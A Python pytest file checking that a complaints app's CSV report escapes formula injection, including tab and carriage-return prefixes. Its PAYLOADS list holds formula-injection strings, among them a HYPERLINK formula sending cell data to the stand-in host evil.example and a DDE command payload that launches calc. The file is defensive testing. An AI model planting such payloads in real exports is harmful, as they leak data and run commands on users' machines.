"""What people typed goes into the CSV report as text: a spreadsheet never runs it as a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import update

from complaints.app import App
from complaints.models import Complaint
from complaints.reporting.report import build, to_csv
from complaints.reporting.sql import Scope
from complaints.services import intake
from tests.conftest import intake as sample

AT = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
    "%0A=1+1",
]
NUMBER = re.compile(r"^-?[0-9.]+$")


def cells(app: App) -> list[list[str]]:
    scope = Scope(since=AT, until=AT + timedelta(days=30))
    report = build(app=app, scope=scope, now=AT + timedelta(days=1))
    return list(csv.reader(io.StringIO(to_csv(report))))


def harmless(cell: str) -> bool:
    return NUMBER.match(cell) is not None or not cell[:1] or cell[0] not in "=+-@|%\t\r\n"


def test_formulas_typed_at_intake_come_out_as_text(fake_app: App) -> None:
    for payload in PAYLOADS:
        for _ in range(3):  # three of one product and category: a recurring cause too
            intake.receive(app=fake_app, intake=sample(product=payload), at=AT)
    rows = cells(fake_app)
    assert all(harmless(cell) for row in rows for cell in row), rows
    products = {row[1] for row in rows if row[0] == "by_product"}
    assert {p[1:].replace("\\|", "|") for p in products} == set(PAYLOADS)
    assert all(p.startswith("'") for p in products)
    recurring = [row[1] for row in rows if row[0] == "recurring"]
    assert len(recurring) == len(PAYLOADS) and all(r.startswith("'") for r in recurring)


def test_tab_and_carriage_return_cannot_hide_a_formula(fake_app: App) -> None:
    reference = intake.receive(app=fake_app, intake=sample(product="\t=1+1"), at=AT).reference
    with fake_app.db.transaction() as session:  # values stored before the intake's lists
        session.execute(
            update(Complaint)
            .where(Complaint.reference == reference)
            .values(region="\t=HYPERLINK(1)", customer_type="\r@SUM(1+1)")
        )
    rows = cells(fake_app)
    assert all(harmless(cell) for row in rows for cell in row), rows
    by = {row[0]: row[1] for row in rows if row[0].startswith("by_")}
    assert by["by_product"] == "'=1+1"  # the intake trimmed the tab; the formula is text
    assert by["by_region"] == "'\t=HYPERLINK(1)" and by["by_customer_type"] == "'\r@SUM(1+1)"


@pytest.mark.parametrize("field", ["region", "customer_type"])
def test_a_formula_cannot_be_a_region_or_customer_type(fake_app: App, field: str) -> None:
    from complaints.errors import NotListed

    with pytest.raises(NotListed):
        intake.receive(app=fake_app, intake=sample(**{field: "=1+1"}), at=AT)
